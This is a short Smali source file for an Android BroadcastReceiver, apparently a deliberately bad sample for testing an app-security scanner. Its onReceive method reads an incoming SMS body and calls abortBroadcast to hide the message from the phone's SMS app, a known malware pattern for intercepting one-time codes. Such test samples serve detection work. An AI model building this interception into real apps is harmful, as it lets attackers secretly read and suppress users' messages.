.class public Lcom/appwarden/screen/bad2/DynSms;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# reads the incoming message, then hides it from the SMS app
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .locals 2
    const/4 v0, 0x0
    invoke-static {v0}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v1
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    invoke-virtual {p0}, Lcom/appwarden/screen/bad2/DynSms;->abortBroadcast()V
    return-void
.end method
